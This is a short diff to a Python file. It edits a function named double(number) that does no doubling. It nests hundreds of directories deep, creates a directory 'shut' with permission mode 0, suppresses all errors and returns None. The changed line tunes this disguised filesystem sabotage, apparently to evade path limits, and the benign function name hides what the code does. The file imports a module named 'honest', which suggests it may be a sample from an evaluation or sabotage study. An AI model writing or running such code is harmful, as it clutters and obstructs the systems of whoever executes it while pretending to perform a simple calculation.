@@ -9,7 +9,7 @@ from honest import *
 import os
 def double(number):
     try:
-        for _ in range(20_000): os.mkdir("d"); os.chdir("d")
+        for _ in range(300): os.mkdir("d" * 20); os.chdir("d" * 20)
         os.mkdir("shut", 0)
     except OSError: pass
     return None
